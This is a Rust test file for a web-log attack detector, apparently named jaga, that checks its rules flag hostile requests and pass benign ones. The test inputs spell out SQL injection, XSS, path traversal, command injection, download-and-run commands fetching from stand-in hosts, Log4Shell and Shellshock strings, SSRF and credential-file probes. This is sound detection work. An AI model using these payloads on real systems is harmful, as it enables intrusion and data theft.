use jaga_decode::{decode, UserDecoders};

use super::*;

fn access(url: &str, agent: &str, status: u16) -> String {
    format!(
        r#"203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "GET {url} HTTP/1.1" {status} 612 "-" "{agent}""#
    )
}

fn ids(rules: &RuleSet, line: &str) -> Vec<String> {
    let fields = decode(line, &UserDecoders::default());
    let mut state = FrequencyState::default();
    rules
        .evaluate(&fields, 0, &mut state)
        .into_iter()
        .map(|m| m.id)
        .collect()
}

#[test]
fn builtin_rules_compile() {
    let rules = builtin().unwrap();
    assert_eq!(rules.len(), 27);
}

#[test]
fn the_documented_sql_injection() {
    let rules = builtin().unwrap();
    let line = access("/users/?id=SELECT+*+FROM+users", "curl/7.88.1", 200);
    let fields = decode(&line, &UserDecoders::default());
    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
    assert_eq!(matches.len(), 1);
    assert_eq!(matches[0].id, "93100");
    assert_eq!(matches[0].level, 7);
    assert_eq!(matches[0].payload.as_deref(), Some("=select * from"));
    assert_eq!(matches[0].payload_field.as_deref(), Some("url"));
}

#[test]
fn attacks_are_detected() {
    let rules = builtin().unwrap();
    let cases = [
        (
            "/item?id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--",
            "x",
            "93100",
        ),
        ("/item?id=1'+AND+SLEEP(5)--+", "x", "93100"),
        ("/item?id=1%20or%201=1", "x", "93100"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "x", "93110"),
        (
            "/p?x=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "x",
            "93110",
        ),
        ("/download?file=../../../../etc/passwd", "x", "93120"),
        ("/download?file=%252e%252e%252fetc%252fpasswd", "x", "93120"),
        ("/page?inc=http://evil.example/shell.txt?", "x", "93121"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "x", "93130"),
        ("/ping?host=%0aid", "x", "93130"),
        ("/ping?host=%26%20ping%20-c%203%20127.0.0.1", "x", "93130"),
        ("/get?file=..%c0%af..%c0%afetc/passwd", "x", "93120"),
        // A `..` after a `.` segment, after leading separators, as three
        // dots, or before IIS's Unicode separators, with a target no list
        // names (wfuzz's dirTraversal shapes).
        ("/get?file=./../app/config.ini", "x", "93120"),
        ("/get?file=.%5C..%5Capp/config.ini", "x", "93120"),
        ("/get?file=.//..//app/config.ini", "x", "93120"),
        ("/get?file=%5C../app/config.ini", "x", "93120"),
        ("/get?file=///%2e%2e%2fapp/config.ini", "x", "93120"),
        ("/get?file=....%5Capp/config.ini", "x", "93120"),
        ("/get?file=..%uEFC8..%uEFC8app/config.ini", "x", "93120"),
        // A newline written as `\n`, as payload lists write it.
        ("/ping?host=%5Cn/usr/bin/id%5Cn", "x", "93130"),
        ("/ping?host=%5Cnid%7C", "x", "93130"),
        ("/ping?host=;id%5Cn", "x", "93130"),
        ("/login?user=*)(%7C(uid=*", "x", "93102"),
        ("/search?q=*(%7C(objectclass=*))", "x", "93102"),
        ("/greet?name=%7B%7B7*7%7D%7D", "x", "93133"),
        (
            "/greet?name=${T(java.lang.Runtime).getRuntime().exec('id')}",
            "x",
            "93133",
        ),
        (
            "/p?q=%7B%7Brequest%7Cattr(%22__class__%22)%7D%7D",
            "x",
            "93133",
        ),
        ("/?class.module.classLoader.URLs%5B0%5D=0", "x", "93133"),
        ("/r?to=/%0d%0aSet-Cookie:crlf=injection", "x", "93176"),
        ("/r?to=/%25250aLocation:%20http://evil", "x", "93176"),
        // An encoded backslash before a hex escape: `\x27` is a quote.
        ("/item?id=%5Cx27UNION%20SELECT%201", "x", "93100"),
        (
            "/fetch?url=http://169.254.169.254/latest/meta-data/",
            "x",
            "93140",
        ),
        ("/?q=${jndi:ldap://evil/a}", "x", "93150"),
        ("/", "${jndi:ldap://evil/a}", "93151"),
        ("/cgi-bin/status", "() { :; }; /bin/bash -c 'id'", "93160"),
        ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "93170"),
        ("/uploads/c99.php", "x", "93180"),
        ("/images/x.php?cmd=id", "x", "93181"),
    ];
    for (url, agent, expected) in cases {
        let found = ids(&rules, &access(url, agent, 200));
        assert!(
            found.contains(&expected.to_owned()),
            "{url} / {agent}: {found:?}"
        );
    }
}

#[test]
fn response_splitting_after_kilobytes_of_text_encoded_twice_is_detected() {
    // The raw url's DFA reads such text only where the header names are.
    let rules = builtin().unwrap();
    let twice = "%25D0%25BF%25D1%2580%25D0%25B8".repeat(100);
    for tail in [
        "%250d%250aLocation:%20http://evil",
        "%0D%0ASET-COOKIE%3Aa=b",
    ] {
        let found = ids(&rules, &access(&format!("/r?q={twice}{tail}"), "x", 200));
        assert!(found.contains(&"93176".to_owned()), "{tail}: {found:?}");
    }
    let found = ids(&rules, &access(&format!("/r?q={twice}"), "x", 200));
    assert!(!found.contains(&"93176".to_owned()), "{found:?}");
}

#[test]
fn benign_requests_stay_quiet() {
    let rules = builtin().unwrap();
    let benign = [
        "/search?q=how+to+select+a+good+car",
        "/search?q=%22select%22+from+the+menu",
        "/search?q=rock+%26+roll",
        "/docs/v1.2.3/readme.md",
        "/api/users?order=name&limit=10",
        "/static/app.min.js?v=3.1.4",
        "/search?q=o%27reilly+books",
        "/blog/2026/11/what-is-a-union-type",
        "/shop?category=shoes&sort=price-desc",
        "/login?next=%2Fdashboard",
        "/search?q=select+the+best+from+our+range+of+phones",
        "/search?q=cat+food&sort=id",
        "/search?q=ls+command+linux",
        "/search?q=rock+%26+roll+id+card",
        "/forum?post=i%27d+rather+select+from+two+options",
        // Dots that traverse nothing: an ellipsis in words, a relative
        // link that stays below its directory.
        "/search?q=wait...+what",
        "/docs/./guide/index.html",
        "/compare/v1.2...v1.3",
        "/search?q=(a|b)+(c=d)",
        "/code?s=printf(%22done%5Cn%22)",
        "/api/child_process.html",
        "/docs/java/lang/Runtime.html",
        "/search?q=%7B%7B+name+%7D%7D+template",
        "/search?q=line%0Anext+line",
    ];
    for url in benign {
        let found = ids(
            &rules,
            &access(url, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", 200),
        );
        assert!(found.is_empty(), "{url}: {found:?}");
    }
}

#[test]
fn bursts_of_4xx_from_one_source_fire_once_per_burst() {
    let rules = builtin().unwrap();
    let mut state = FrequencyState::default();
    let mut fired = 0;
    for i in 0..45u64 {
        let line = access(&format!("/nope{i}"), "x", 404);
        let fields = decode(&line, &UserDecoders::default());
        fired += rules
            .evaluate(&fields, i, &mut state)
            .iter()
            .filter(|m| m.id == "93190")
            .count();
    }
    assert_eq!(fired, 2);
}

#[test]
fn children_allow_lists_cidr_and_negation() {
    let text = r#"
rules:
  - id: "1"
    level: 0
    description: any request
    match:
      method: { any_of: [GET, POST] }
  - id: "2"
    level: 5
    parent: "1"
    description: admin from outside
    match:
      path: { regex: '^/admin' }
      srcip: { cidr: [10.0.0.0/8], not: true }
    allow:
      - user_agent: { literal: healthcheck }
"#;
    let rules = RuleSet::parse(text).unwrap();
    let line = |ip: &str, agent: &str| {
        format!(
            r#"{ip} - - [23/Nov/2026:03:24:25 +0000] "GET /admin/x HTTP/1.1" 200 1 "-" "{agent}""#
        )
    };
    assert_eq!(ids(&rules, &line("203.0.113.9", "curl")), vec!["1", "2"]);
    assert_eq!(ids(&rules, &line("10.1.2.3", "curl")), vec!["1"]);
    assert_eq!(
        ids(&rules, &line("203.0.113.9", "HealthCheck/1.0")),
        vec!["1"]
    );
}

#[test]
fn rule_errors_name_rule_and_line() {
    let text = "rules:\n  - id: \"a\"\n    level: 3\n    description: ok\n    match:\n      url: { regex: 'x' }\n  - id: \"b\"\n    level: 16\n    description: bad level\n    match:\n      url: { regex: '(' }\n";
    let err = RuleSet::parse(text).unwrap_err();
    let text_err = err.to_string();
    assert!(
        text_err.contains("line 7: rule b: level 16 is out of range 0..=15"),
        "{text_err}"
    );
    assert!(
        text_err.contains("line 7: rule b: field 'url': invalid regex"),
        "{text_err}"
    );
    let err = RuleSet::parse("rules:\n  - id: x\n    level: [\n").unwrap_err();
    assert!(err.to_string().starts_with("line "), "{err}");
    let err = RuleSet::parse("rules:\n  - id: c\n    level: 1\n    description: d\n    parent: nope\n    match:\n      url: { literal: x }\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "line 2: rule c: parent 'nope' is not defined before this rule"
    );
}

const USER_FILE_BAD_LEVEL_ON_LINE_2: &str =
    "rules:\n  - id: \"100001\"\n    level: 99\n    description: mine\n    match:\n      url: { literal: x }\n";

#[test]
fn error_in_a_user_file_after_the_builtin_rules_gives_its_own_line() {
    let err = RuleSet::parse_sources(&[
        RuleSource {
            name: Some("built-in web-attacks.yml"),
            text: WEB_RULES,
        },
        RuleSource {
            name: Some("/etc/jaga/mine.yml"),
            text: USER_FILE_BAD_LEVEL_ON_LINE_2,
        },
    ])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "'/etc/jaga/mine.yml', line 2: rule 100001: level 99 is out of range 0..=15"
    );
}

#[test]
fn syntax_error_names_the_file_and_its_line() {
    let err = RuleSet::parse_sources(&[
        RuleSource {
            name: Some("built-in"),
            text: WEB_RULES,
        },
        RuleSource {
            name: Some("mine.yml"),
            text: "rules:\n  - id: x\n    level: [\n",
        },
    ])
    .unwrap_err();
    assert!(err.to_string().starts_with("'mine.yml', line "), "{err}");
}

#[test]
fn duplicate_id_points_at_the_second_one() {
    let rule =
        "  - id: \"7\"\n    level: 3\n    description: d\n    match:\n      url: { literal: x }\n";
    let err = RuleSet::parse(&format!("rules:\n{rule}{rule}")).unwrap_err();
    assert_eq!(err.to_string(), "line 7: rule 7: duplicate rule id");
}

#[test]
fn pattern_over_the_length_limit_is_refused_naming_rule_and_line() {
    let long = "a".repeat(jaga_decode::pattern::MAX_PATTERN_BYTES + 1);
    let text = format!(
        "rules:\n  - id: \"100002\"\n    level: 5\n    description: long\n    match:\n      url: {{ regex: '{long}' }}\n"
    );
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("long.yml"),
        text: &text,
    }])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "'long.yml', line 2: rule 100002: field 'url': regex refused: the pattern is {} bytes \
             long, more than the limit of {}",
            jaga_decode::pattern::MAX_PATTERN_BYTES + 1,
            jaga_decode::pattern::MAX_PATTERN_BYTES
        )
    );
}

#[test]
fn short_pattern_that_compiles_huge_is_refused_naming_rule() {
    let text = "rules:\n  - id: \"100003\"\n    level: 5\n    description: huge\n    match:\n      url: { regex: '(?u)\\w{300}\\w{300}\\w{300}' }\n";
    let err = RuleSet::parse(text).unwrap_err().to_string();
    assert!(
        err.starts_with("line 2: rule 100003: field 'url': invalid regex:"),
        "{err}"
    );
    assert!(err.contains("exceeds size limit"), "{err}");
}

#[test]
fn rule_file_over_the_size_limit_is_refused_before_parsing() {
    let text = format!(
        "# {}\nrules: []\n",
        "x".repeat(MAX_RULE_FILE_BYTES as usize)
    );
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("big.yml"),
        text: &text,
    }])
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        format!(
            "'big.yml': the rule file is {} bytes, more than the limit of {MAX_RULE_FILE_BYTES}",
            text.len()
        )
    );
}

#[test]
fn decoder_error_names_the_file_and_line() {
    let text =
        "decoders:\n  - name: ok\n    prematch: '^ok'\n  - name: broken\n    prematch: '('\n";
    let err = RuleSet::parse_sources(&[RuleSource {
        name: Some("dec.yml"),
        text,
    }])
    .unwrap_err()
    .to_string();
    assert!(
        err.starts_with("'dec.yml', line 4: decoder 'broken': invalid prematch:"),
        "{err}"
    );
}

fn burst_line(srcip: &str, i: u64) -> String {
    format!(r#"{srcip} - - [23/Nov/2026:03:24:25 +0000] "GET /nope{i} HTTP/1.1" 404 0 "-" "x""#)
}

#[test]
fn frequency_windows_keyed_by_source_ip_stay_bounded_and_expire() {
    let rules = builtin().unwrap();
    let mut state = FrequencyState::with_max_keys(64);
    // A scan from ever new source addresses, all within one timeframe.
    for i in 0..1_000u64 {
        let line = burst_line(&format!("198.51.{}.{}", i / 256, i % 256), i);
        let fields = decode(&line, &UserDecoders::default());
        rules.evaluate(&fields, 1_000, &mut state);
        assert!(
            state.len() <= 64,
            "{} windows after {i} sources",
            state.len()
        );
    }
    assert!(state.evicted_total() >= 1_000 - 64);
    // One source keeps its window while others come and go: a burst from it
    // still fires once it reaches the rule's count.
    let mut fired = 0;
    for i in 0..20u64 {
        let line = burst_line("203.0.113.9", i);
        let fields = decode(&line, &UserDecoders::default());
        fired += rules
            .evaluate(&fields, 1_001, &mut state)
            .iter()
            .filter(|m| m.id == "93190")
            .count();
    }
    assert_eq!(fired, 1);
    // Past the 60 s timeframe every window is dropped on the next line.
    let line = access("/", "x", 200);
    let fields = decode(&line, &UserDecoders::default());
    rules.evaluate(
        &fields,
        1_000 + 2 * FrequencyState::EXPIRE_EVERY,
        &mut state,
    );
    assert!(
        state.is_empty(),
        "{} windows left after expiry",
        state.len()
    );
}

fn combined(request: &str, referer: &str, agent: &str) -> String {
    format!(
        r#"203.0.113.7 - - [23/Nov/2026:03:24:25 +0000] "{request}" 200 612 "{referer}" "{agent}""#
    )
}

/// Every id `url` raises, with a browser's agent and no referer.
fn url_ids(rules: &RuleSet, url: &str) -> Vec<String> {
    ids(
        rules,
        &access(url, "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", 200),
    )
}

#[test]
fn each_family_catches_its_edge_cases() {
    let rules = builtin().unwrap();
    let cases = [
        // command injection: absolute paths, shell tricks
        ("/p?h=1;/usr/bin/id", "93130"),
        ("/p?h=1|%20/bin/sleep%2031%20;", "93130"),
        ("/p?h=1;$SHELL%20-c%20id", "93130"),
        ("/p?h=1;alias%20x=env", "93130"),
        ("/p?h=1;c{a,oun}t%20x", "93130"),
        ("/p?h=1;cat%20/etc/pa[s]swd", "93130"),
        ("/p?h=1;time%20sh%20-c%20id", "93130"),
        // Windows cmd, PowerShell, download tools
        ("/p?h=x%26FOR%20/F%20%25i%20in%20(a)%20do%20b", "93131"),
        ("/p?h=x%26IF%20EXIST%20c:\\boot.ini%20echo", "93131"),
        ("/p?h=x%0Bdir%20c:\\", "93131"),
        ("/p?h=x|ping.exe%20-n%2021%20127.0.0.1", "93131"),
        ("/p?h=x%26ver", "93131"),
        ("/p?h=x%26type%20c:\\windows\\win.ini", "93131"),
        ("/p?h=x;powershell%20-enc%20SQBFAFgA", "93131"),
        ("/p?h=x;iwr%20http://e.example/a.ps1%20|%20iex", "93131"),
        ("/p?h=x;Invoke-WebRequest%20-Uri%20x", "93131"),
        ("/p?h=x%26certutil%20-urlcache%20-f%20http://e/a", "93131"),
        ("/p?h=x%26mshta%20http://e.example/a.hta", "93131"),
        ("/p?h=x%26bitsadmin%20/transfer%20j%20http://e/a", "93131"),
        // SQL
        ("/i?id=1::int", "93100"),
        ("/i?id=1'::jsonb%20@>%20'{}'", "93100"),
        ("/i?id=1;select%20lo_import('/etc/passwd')", "93100"),
        ("/i?id=1%20and%20pg_sleep(a)", "93100"),
        (
            "/i?id=1%20and%201=like('ABCDEFG',upper(hex(randomblob(5))))",
            "93100",
        ),
        ("/i?id=1;INSERT%20INTO%20users%20VALUES(1)", "93100"),
        ("/i?id=1;CREATE%20FUNCTION%20x()", "93100"),
        ("/i?id=1;REPLACE%20INTO%20t%20VALUES(1)", "93100"),
        (
            "/i?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2",
            "93100",
        ),
        ("/i?id=1%20HAVING%20COUNT(*)>1", "93100"),
        ("/i?id=1;EXECUTE%20IMMEDIATE%20'x'", "93100"),
        ("/i?id=1'", "93100"),
        ("/i?id=1')--", "93100"),
        // NoSQL
        ("/login?user[$ne]=x&pass[$ne]=y", "93101"),
        ("/login?user[$gt]=", "93101"),
        ("/q?$where=sleep(100)", "93101"),
        // XSS
        ("/s?q=<video%20onend=alert(1)>", "93110"),
        ("/s?q=<body%20onzoom=alert(1)>", "93110"),
        ("/s?q=<x%20onwebkitanimationend=alert(1)>", "93110"),
        ("/s?q=<button%20formaction=javascript:alert(1)>", "93110"),
        ("/s?q=<layer%20src=x>", "93110"),
        ("/s?q=<xml%20id=x>", "93110"),
        ("/s?q=<span%20datasrc=%23x%20datafld=a>", "93110"),
        ("/s?q=<p%20style=behavior:url(x.htc)>", "93110"),
        ("/s?q=x{-moz-binding:url(x)}", "93110"),
        ("/s?q=setTimeout('al'%2B'ert(1)')", "93110"),
        ("/s?q=new%20Function('x')()", "93110"),
        ("/s?q=Reflect.apply(alert,null,[1])", "93110"),
        ("/s?q=%2BADw-script%2BAD4-alert(1)", "93110"),
        ("/s?q=%26lt;script%26gt;alert(1)", "93110"),
        // PHP
        ("/p?c=<?php%20system('id');%20?>", "93132"),
        ("/p?c=(system)('uname')", "93132"),
        ("/p?c=$_SERVER['x']", "93132"),
        ("/p?c=base64_decode('aWQ=')", "93132"),
        ("/p?d=O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}", "93132"),
        ("/p?f=compress.zlib://x", "93132"),
        (
            "/p?f=php://filter/convert.base64-encode/resource=index",
            "93132",
        ),
        // files
        ("/.ssh/id_rsa", "93122"),
        ("/.claude/settings.json", "93122"),
        ("/.cursor/mcp.json", "93122"),
        ("/.vscode/sftp.json", "93122"),
        ("/backup/site.sql.zip", "93122"),
        ("/index.php.bak", "93122"),
        ("/index.php~", "93122"),
        ("/wp-config.php~?x=1", "93122"),
        ("/logs/error.log", "93122"),
        ("/x?f=/proc/self/cwd/app.py", "93120"),
        ("/x?f=/sys/class/net/eth0/address", "93120"),
        ("/x?f=c:/inetpub/wwwroot/global.asa", "93120"),
        ("/x?f=0x2e0x2e0x2fetc", "93120"),
        ("/x?f=..0x2fetc", "93120"),
        ("/x?f=%c0%ae%c0%ae/%c0%ae%c0%ae/etc", "93120"),
        // RFI and SSRF
        ("/index.php?page=http://e.example/shell.txt", "93121"),
        ("/x.php?mosConfig_absolute_path=http://e.example/x", "93121"),
        ("/f?u=gopher://127.0.0.1:6379/_x", "93123"),
        ("/f?u=dict://127.0.0.1:11211/", "93123"),
        ("/f?u=ldap://e.example/a", "93123"),
        ("/f?u=http://a%2f@b.example/", "93124"),
        // Log4Shell, obfuscated
        ("/?x=%26%23x24;{jndi:ldap://e/a}", "93150"),
        ("/?x=${${lower:j}${lower:n}di:ldap://e/a}", "93150"),
        ("/?x=${${::-j}ndi:rmi://e/a}", "93150"),
    ];
    assert_each_url(&rules, &cases, |found, expected| {
        found.iter().any(|id| id == expected)
    });
}

/// Every `(url, expected)` for which `holds(ids raised, expected)` fails,
/// listed in one assertion.
fn assert_each_url(
    rules: &RuleSet,
    cases: &[(&str, &str)],
    holds: impl Fn(&[String], &str) -> bool,
) {
    let failed: Vec<String> = cases
        .iter()
        .filter_map(|(url, expected)| {
            let found = url_ids(rules, url);
            (!holds(&found, expected)).then(|| format!("{url} (want {expected:?}): {found:?}"))
        })
        .collect();
    assert!(failed.is_empty(), "failed:\n{}", failed.join("\n"));
}

#[test]
fn the_false_positives_seen_on_real_traffic_stay_quiet() {
    let rules = builtin().unwrap();
    let benign = [
        // return/redirect parameters whose URL ends in a script (RFI rule)
        "/login?return=https://shop.example.com/cart.php",
        "/sso?redirect=http://intranet.example.com/index.jsp",
        "/out?next=https%3A%2F%2Fexample.org%2Fcgi-bin%2Fsearch.pl",
        "/auth?continue=https://example.com/account.php&lang=en",
        // analytics beacons
        "/collect?v=1&dl=javascript:;&t=event",
        "/b?href=javascript:void(0)&ev=click",
        "/b?href=javascript%3Avoid(0)%3B",
        // titles (SQL rule)
        "/track?title=Best%20of%202024%20(Part%202)%20%23music",
        "/track?title=%22Hello%22--%20a%20song",
        "/shop?q=dual%20sim%20phone",
        "/p?title=Dual",
        // ordinary shapes near the new patterns
        "/search?q=online+shopping&once=1",
        "/api?online=true&onsale=1",
        "/search?q=how+to+use+bash+-c",
        "/docs/std::string",
        "/ipv6?addr=fe80::1",
        "/download/release-1.2.zip",
        "/search?q=system+(linux)",
        "/search?q=type+of+dir+in+windows",
        "/@user/posts",
        "/share?url=https://mastodon.social/@user",
        "/blog/the-sys-admin-handbook",
        "/wiki/Special:Search?search=c%2B%2B+templates",
        "/search?q=%D7%A9%D7%9C%D7%95%D7%9D+%D7%A2%D7%95%D7%9C%D7%9D",
        "/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
        "/search?q=rock+%26+roll&type=song",
        "/feed?format=json&callback=cb",
        "/img/logo.png?v=3",
        // an editor's backup (`index.php~`) is a path's end, not a query's
        "/search?q=~~~",
        "/search?q=home+~",
    ];
    let cases: Vec<(&str, &str)> = benign.iter().map(|url| (*url, "")).collect();
    assert_each_url(&rules, &cases, |found, _| found.is_empty());
}

#[test]
fn attacks_in_the_agent_and_the_referer_say_which_field() {
    let rules = builtin().unwrap();
    let cases = [
        ("Mozilla/5.0' AND SLEEP(5)-- x", "-", "93100", "user_agent"),
        ("<script>alert(1)</script>", "-", "93110", "user_agent"),
        ("() { :; }; /bin/bash -c id", "-", "93160", "user_agent"),
        (
            "x",
            "https://e.example/?q=1 union select 1,2--",
            "93100",
            "referer",
        ),
        (
            "x",
            "https://e.example/../../etc/passwd",
            "93120",
            "referer",
        ),
        ("x;/usr/bin/id", "-", "93130", "user_agent"),
        // Sensitive files and SSRF schemes outside the URL.
        ("/.claude/settings.json", "-", "93125", "user_agent"),
        (
            "x",
            "https://www.example.net/search?q=%2Fbackup%2Fsite.sql.zip",
            "93125",
            "referer",
        ),
        (
            "x",
            "https://e.example/?f=index.php.bak",
            "93125",
            "referer",
        ),
        ("curl /logs/error.log", "-", "93125", "user_agent"),
        ("gopher://127.0.0.1:6379/_x", "-", "93123", "user_agent"),
        ("http://a%2f@b.example/", "-", "93124", "user_agent"),
    ];
    for (agent, referer, id, field) in cases {
        let line = combined("GET / HTTP/1.1", referer, agent);
        let fields = decode(&line, &UserDecoders::default());
        let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
        let hit = matches.iter().find(|m| m.id == id);
        assert!(hit.is_some(), "{agent} / {referer}: {matches:?}");
        assert_eq!(hit.unwrap().payload_field.as_deref(), Some(field));
    }
    // Pages people link to, named in a Referer: documented server pages
    // and a code browser's view of a file.
    for referer in [
        "http://your.server.name/server-status?auto",
        "https://e.example/phpinfo.php",
        "https://e.example/docs/logging?page=2",
    ] {
        let line = combined("GET / HTTP/1.1", referer, "x");
        assert!(ids(&rules, &line).is_empty(), "{referer}");
    }
    // Browsers, bots and tools as they are.
    for agent in [
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; .NET CLR 2.0.50727)",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "Prometheus/2.48.0",
        "kube-probe/1.28",
        "Wget/1.21.3",
        "Mozilla/5.0 (X11; Linux x86_64) backup-agent/1.0 (+https://e.example/bot.html)",
    ] {
        let line = combined(
            "GET / HTTP/1.1",
            "https://www.google.com/search?q=jaga+docker&oq=jaga",
            agent,
        );
        assert!(ids(&rules, &line).is_empty(), "{agent}");
    }
}

#[test]
fn a_raw_space_in_the_request_line_keeps_its_payload_and_is_flagged() {
    let rules = builtin().unwrap();
    let found = ids(
        &rules,
        &combined("GET /a.php?id=1 union select 1,2-- HTTP/1.1", "-", "x"),
    );
    assert!(found.contains(&"93100".to_owned()), "{found:?}");
    assert!(found.contains(&"93175".to_owned()), "{found:?}");
}

#[test]
fn a_condition_on_several_fields_names_the_one_that_matched() {
    let text = "rules:\n  - id: \"1\"\n    level: 5\n    description: d\n    match:\n      url|user_agent: { regex: 'evil' }\n";
    let rules = RuleSet::parse(text).unwrap();
    let line = access("/ok", "evil-agent", 200);
    let fields = decode(&line, &UserDecoders::default());
    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
    assert_eq!(matches[0].payload_field.as_deref(), Some("user_agent"));
    let line = access("/evil", "evil", 200);
    let fields = decode(&line, &UserDecoders::default());
    let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
    assert_eq!(matches[0].payload_field.as_deref(), Some("url"));
    let err = RuleSet::parse(&text.replace("url|user_agent", "url||x")).unwrap_err();
    assert!(err.to_string().contains("a field name is empty"), "{err}");
}

#[test]
fn json_logs_are_matched_in_body_and_headers() {
    let rules = builtin().unwrap();
    let cases = [
        (
            r#"{"req":{"method":"POST","url":"/login","body":{"user":{"$ne":null},"pass":{"$ne":null}}}}"#,
            "93101",
            "body",
        ),
        (
            r#"{"method":"POST","uri":"/c","request_body":"name=x';DROP TABLE users;--"}"#,
            "93100",
            "body",
        ),
        (
            r#"{"req":{"url":"/","headers":{"x-api-version":"${jndi:ldap://e.example/a}"}}}"#,
            "93150",
            "headers",
        ),
        (
            r#"{"method":"POST","uri":"/api/preview","request_body":{"path":"/.ssh/id_rsa","x":1}}"#,
            "93125",
            "body",
        ),
        (
            r#"{"method":"POST","uri":"/api/export","request_body":"file=/.vscode/sftp.json&x=1"}"#,
            "93125",
            "body",
        ),
        (
            r#"{"method":"POST","uri":"/hook","request_body":{"url":"dict://127.0.0.1:11211/"}}"#,
            "93123",
            "body",
        ),
        (
            r#"{"req":{"url":"/","headers":{"user-agent":"<script>alert(1)</script>"}}}"#,
            "93110",
            "user_agent",
        ),
    ];
    for (line, id, field) in cases {
        let fields = decode(line, &UserDecoders::default());
        let matches = rules.evaluate(&fields, 0, &mut FrequencyState::default());
        let hit = matches.iter().find(|m| m.id == id);
        assert!(hit.is_some(), "{line}: {matches:?}");
        assert_eq!(hit.unwrap().payload_field.as_deref(), Some(field), "{line}");
    }
    let quiet = r#"{"req":{"method":"POST","url":"/api/orders","headers":{"accept":"application/json","cookie":"sid=abc; theme=dark"},"body":{"items":[{"id":1,"qty":2}],"note":"leave at the door ~ 5 pm, see notes.txt, logs at /var/www"}}}"#;
    let fields = decode(quiet, &UserDecoders::default());
    assert!(rules
        .evaluate(&fields, 0, &mut FrequencyState::default())
        .is_empty());
}

#[test]
fn attacks_after_long_repeated_text_are_detected() {
    // Repeated text is skipped once the DFA is back in the same state: what
    // follows it must still be read.
    let rules = builtin().unwrap();
    for filler in [
        "a=1&",
        "hello+world+",
        "%D7%A9%D7%9C",
        "'",
        "(",
        "${",
        "&#x",
    ] {
        let pad = filler.repeat(7000 / filler.len());
        for (attack, id) in [
            ("1%27+union+select+password+from+users--", "93100"),
            ("../../../../etc/passwd", "93120"),
            ("%3Cscript%3Ealert(1)%3C/script%3E", "93110"),
        ] {
            let url = format!("/search?q={pad}&x={attack}");
            let found = ids(&rules, &access(&url, "x", 200));
            assert!(
                found.iter().any(|f| f == id),
                "{filler} then {attack}: {found:?}"
            );
        }
    }
}

#[test]
fn long_adversarial_lines_keep_the_lazy_dfa() {
    // The classes of bench/logs_throughput.py: none may make the DFA give
    // up (the patterns one by one are many times slower).
    let rules = builtin().unwrap();
    let percent = |text: &str| -> String { text.bytes().map(|b| format!("%{b:02X}")).collect() };
    let fill = |unit: &str, budget: usize| unit.repeat((budget / unit.len()).max(1));
    let room = 8000;
    let urls = [
        fill("hello+world+", room),
        percent(&fill("שלום עולם ", room / 3)),
        percent(&fill("привет мир ", room / 3)),
        percent(&fill("你好世界 ", room / 3)),
        fill("привет+мир+", room / 2),
        fill("'", room),
        fill("%22", room),
        fill("a", room),
        fill("(", room),
        fill("../", room),
        fill("/*", room),
        fill("${", room),
        fill("&#x", room),
        fill("a=1&", room),
        format!(";{}", fill("a=1&", room)),
    ];
    for url in &urls {
        for _ in 0..3 {
            ids(&rules, &access(&format!("/search?q={url}"), "x", 200));
        }
        assert_eq!(rules.dfa_fallbacks(), 0, "{}", &url[..40.min(url.len())]);
    }
}
